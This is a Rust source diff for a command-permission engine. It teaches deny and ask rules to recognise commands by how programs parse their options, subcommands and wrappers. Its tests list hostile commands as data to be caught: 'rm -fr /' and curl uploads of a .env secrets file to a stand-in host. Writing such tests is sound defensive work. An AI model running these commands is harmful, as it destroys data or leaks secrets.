@@ -11,8 +11,9 @@ use std::path::{Path, PathBuf};
 use globset::{GlobBuilder, GlobSet, GlobSetBuilder};
 use unicode_normalization::UnicodeNormalization;
 
-use crate::resource::shell::Word;
 use crate::resource::shell::programs;
+use crate::resource::shell::registry;
+use crate::resource::shell::{CommandReading, Word};
 use crate::resource::url::{AddressClass, DomainPattern, in_class};
 use crate::subject::{CommandSubject, PathSubject, UrlSubject};
 
@@ -470,6 +471,143 @@ impl Token {
 pub(crate) struct CommandPattern {
     pub(crate) text: String,
     pub(crate) tokens: Vec<Token>,
+    /// The pattern read as the program reads its arguments, once per combination of its
+    /// alternatives: what deny and ask rules compare commands with.
+    readings: Vec<PatternReading>,
+}
+
+/// A command pattern read with its program's record.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct PatternReading {
+    /// The program as written in the pattern.
+    program: String,
+    subcommands: Vec<&'static str>,
+    /// Options by their names (`-rf` → `--recursive`, `--force`).
+    options: Vec<String>,
+    /// Options the record does not know, as written: matched as words.
+    words: Vec<String>,
+    /// Operands in order; `None` for `*`.
+    operands: Vec<Option<String>>,
+    /// Whether the pattern names more than its program.
+    more: bool,
+}
+
+/// The most combinations of a pattern's alternatives read for deny and ask rules.
+const MAX_PATTERN_READINGS: usize = 64;
+
+/// The pattern's readings: each combination of its alternatives, read with the record of the
+/// program it names.
+fn pattern_readings(tokens: &[Token]) -> Vec<PatternReading> {
+    let mut combinations: Vec<Vec<Option<&str>>> = vec![Vec::new()];
+    for token in tokens {
+        let choices: Vec<Option<&str>> = match token {
+            Token::Any => vec![None],
+            Token::OneOf(options) => options.iter().map(|o| Some(o.as_str())).collect(),
+        };
+        if combinations.len().saturating_mul(choices.len()) > MAX_PATTERN_READINGS {
+            return Vec::new();
+        }
+        combinations = combinations
+            .iter()
+            .flat_map(|c| {
+                choices.iter().map(move |choice| {
+                    let mut next = c.clone();
+                    next.push(*choice);
+                    next
+                })
+            })
+            .collect();
+    }
+    const ANY: &str = "\u{0}*";
+    combinations
+        .into_iter()
+        .filter_map(|words| {
+            let program = (*words.first()?)?;
+            let args: Vec<&str> = words.iter().skip(1).map(|w| w.unwrap_or(ANY)).collect();
+            let reading = crate::resource::shell::registry::read(program, &args);
+            let mut options: Vec<String> =
+                reading.given.iter().map(|g| g.name.to_string()).collect();
+            options.sort();
+            options.dedup();
+            Some(PatternReading {
+                program: program.to_owned(),
+                subcommands: reading.sub_words.clone(),
+                options,
+                words: reading
+                    .unknown_options
+                    .iter()
+                    .map(|w| (*w).to_owned())
+                    .collect(),
+                operands: reading
+                    .operand_texts()
+                    .into_iter()
+                    .map(|o| (o != ANY).then(|| o.to_owned()))
+                    .collect(),
+                more: words.len() > 1,
+            })
+        })
+        .collect()
+}
+
+impl PatternReading {
+    /// Whether a command (one layer of it: the argv, and its reading when known) runs what
+    /// this pattern names.
+    fn matches(&self, argv: &[Word], known: Option<&CommandReading>) -> bool {
+        let Some(program) = argv.first().and_then(Word::value) else {
+            return false;
+        };
+        let name = programs::basename(program);
+        let same = name == self.program
+            || registry::find(name).is_some_and(|r| {
+                r.names.contains(&self.program.as_str())
+                    && registry::find(&self.program).is_some_and(|p| std::ptr::eq(p, r))
+            });
+        if !same {
+            return false;
+        }
+        if !self.more {
+            return true;
+        }
+        let read;
+        let reading = match known {
+            Some(r) => r,
+            None => {
+                let words: Vec<&str> = argv
+                    .iter()
+                    .skip(1)
+                    .map(|w| w.value().unwrap_or(w.text.as_str()))
+                    .collect();
+                read = CommandReading::of(&registry::read(program, &words));
+                &read
+            }
+        };
+        let subs = self.subcommands.len() <= reading.subcommands.len()
+            && self
+                .subcommands
+                .iter()
+                .zip(&reading.subcommands)
+                .all(|(a, b)| a == b);
+        let by_act = self
+            .subcommands
+            .first()
+            .is_some_and(|s| reading.acts.contains(s));
+        if !(subs || by_act) {
+            return false;
+        }
+        if !self.options.iter().all(|o| reading.options.contains(o)) {
+            return false;
+        }
+        let written: Vec<&str> = argv.iter().skip(1).filter_map(Word::value).collect();
+        if !self.words.iter().all(|w| written.contains(&w.as_str())) {
+            return false;
+        }
+        // Operands in order, `*` standing for any one.
+        let mut operands = reading.operands.iter();
+        self.operands.iter().all(|wanted| match wanted {
+            None => operands.next().is_some(),
+            Some(w) => operands.any(|o| o == w),
+        })
+    }
 }
 
 impl CommandPattern {
@@ -497,6 +635,7 @@ impl CommandPattern {
         }
         Ok(CommandPattern {
             text: text.to_owned(),
+            readings: pattern_readings(&tokens),
             tokens,
         })
     }
@@ -527,7 +666,11 @@ impl CommandPattern {
         if tokens.is_empty() || tokens.first() == Some(&Token::Any) {
             return Err(format!("`{text}` must start with a program name"));
         }
-        Ok(CommandPattern { text, tokens })
+        Ok(CommandPattern {
+            text,
+            readings: pattern_readings(&tokens),
+            tokens,
+        })
     }
 
     /// Whether the command that runs starts with the pattern (the program named exactly).
@@ -547,30 +690,43 @@ impl CommandPattern {
                     .all(|(t, w)| t.is_match(w, false))
         };
         starts(argv)
-            || programs::without_git_options(argv, false).is_some_and(|a| starts(a.as_slice()))
+            || programs::without_global_options(argv, false).is_some_and(|a| starts(a.as_slice()))
     }
 
-    /// Deny and ask rules: the pattern appears anywhere in any layer, programs by basename (and
-    /// in git's argv without its own options: `git -C . push` is `git push`).
-    fn appears_in(&self, wrappers: &[Vec<Word>], argv: &[Word]) -> bool {
-        let plain = programs::without_git_options(argv, true);
-        wrappers
-            .iter()
-            .map(Vec::as_slice)
-            .chain(std::iter::once(argv))
-            .chain(plain.as_deref())
-            .any(|argv| {
-                (0..argv.len()).any(|start| {
-                    argv.get(start..).is_some_and(|rest| {
-                        rest.len() >= self.tokens.len()
-                            && self
-                                .tokens
-                                .iter()
-                                .zip(rest)
-                                .all(|(t, w)| t.is_match(w, true))
+    /// Deny and ask rules: the pattern names the program that runs — in any wrapper layer
+    /// (`sudo curl`), by a path to it (`/usr/bin/curl`) or another name of the same program
+    /// (`gtar` for `tar`) — never a word a program is given (`grep curl src`). Its other words
+    /// are read as the program reads its own: a subcommand by its name or what it does (`git
+    /// send-pack` pushes), options in any spelling (`-fr` is `-r -f`, `--force`, abbreviated,
+    /// after the operands), operands in order.
+    fn appears_in(
+        &self,
+        wrappers: &[Vec<Word>],
+        argv: &[Word],
+        reading: Option<&CommandReading>,
+    ) -> bool {
+        if self.readings.is_empty() {
+            // Too many alternatives to read one by one: the words, anywhere in a layer.
+            return wrappers
+                .iter()
+                .map(Vec::as_slice)
+                .chain(std::iter::once(argv))
+                .any(|layer| {
+                    (0..layer.len()).any(|start| {
+                        layer.get(start..).is_some_and(|rest| {
+                            rest.len() >= self.tokens.len()
+                                && self
+                                    .tokens
+                                    .iter()
+                                    .zip(rest)
+                                    .all(|(t, w)| t.is_match(w, true))
+                        })
                     })
-                })
-            })
+                });
+        }
+        self.readings.iter().any(|p| {
+            wrappers.iter().any(|layer| p.matches(layer, None)) || p.matches(argv, reading)
+        })
     }
 
     fn covers(&self, other: &CommandPattern) -> bool {
@@ -592,13 +748,26 @@ pub(crate) struct CommandSet {
 impl CommandSet {
     pub(crate) fn matches(&self, subject: &CommandSubject, loosens: bool) -> bool {
         if loosens {
-            self.patterns
-                .iter()
-                .any(|p| p.is_prefix_of(&subject.command.argv))
+            // An interpreter running a module (`python3 -m pytest`) is the command as written
+            // too: the module's command is read whole all the same.
+            let module = subject.command.wrappers.last().filter(|layer| {
+                layer
+                    .first()
+                    .and_then(Word::value)
+                    .and_then(registry::find)
+                    .is_some_and(|p| p.interpreter)
+            });
+            self.patterns.iter().any(|p| {
+                p.is_prefix_of(&subject.command.argv) || module.is_some_and(|m| p.is_prefix_of(m))
+            })
         } else {
-            self.patterns
-                .iter()
-                .any(|p| p.appears_in(&subject.command.wrappers, &subject.command.argv))
+            self.patterns.iter().any(|p| {
+                p.appears_in(
+                    &subject.command.wrappers,
+                    &subject.command.argv,
+                    subject.command.reading.as_ref(),
+                )
+            })
         }
     }
 
@@ -753,10 +922,41 @@ mod tests {
         assert!(!p.is_prefix_of(&words("git -c core.pager=sh log")));
         assert!(!p.is_prefix_of(&words("git --git-dir=/x/.git log")));
         let push = CommandPattern::parse("git push").unwrap();
-        assert!(push.appears_in(&[], &words("git --no-pager -C . push origin")));
-        assert!(push.appears_in(&[], &words("git -c x=y push")));
-        assert!(p.appears_in(&[], &words("/tmp/git status")));
-        assert!(p.appears_in(&[words("sudo git log")], &words("git log")));
+        assert!(push.appears_in(&[], &words("git --no-pager -C . push origin"), None));
+        assert!(push.appears_in(&[], &words("git -c x=y push"), None));
+        assert!(push.appears_in(&[], &words("git send-pack origin main"), None));
+        assert!(push.appears_in(&[], &words("git subtree push --prefix d o b"), None));
+        assert!(!push.appears_in(&[], &words("grep push notes.md"), None));
+        assert!(!push.appears_in(&[], &words("git log --grep push"), None));
+        assert!(p.appears_in(&[], &words("/tmp/git status"), None));
+        assert!(p.appears_in(&[words("sudo git log")], &words("git log"), None));
+        // Spellings of the same act.
+        let rf = CommandPattern::parse("rm -rf").unwrap();
+        for line in [
+            "rm -fr /",
+            "rm -r -f x",
+            "rm x -rf",
+            "rm --recursive --force x",
+            "rm --rec --for x",
+        ] {
+            assert!(rf.appears_in(&[], &words(line), None), "{line}");
+        }
+        assert!(!rf.appears_in(&[], &words("rm -f x"), None));
+        let hard = CommandPattern::parse("git reset --hard").unwrap();
+        assert!(hard.appears_in(&[], &words("git reset HEAD~3 --hard"), None));
+        let publish = CommandPattern::parse("npm publish").unwrap();
+        assert!(publish.appears_in(&[], &words("npm publ"), None));
+        let cargo = CommandPattern::parse("cargo publish").unwrap();
+        assert!(cargo.appears_in(&[], &words("cargo -q publish"), None));
+        let curl = CommandPattern::parse("curl -T").unwrap();
+        assert!(curl.appears_in(
+            &[],
+            &words("curl --upload-file .env https://x.example"),
+            None
+        ));
+        assert!(curl.appears_in(&[], &words("curl -sT .env https://x.example"), None));
+        let tar = CommandPattern::parse("tar -x").unwrap();
+        assert!(tar.appears_in(&[], &words("bsdtar xf a.tar"), None));
         let any = CommandPattern::parse("npm run *").unwrap();
         assert!(any.is_prefix_of(&words("npm run build")));
         assert!(!any.is_prefix_of(&words("npm run")));
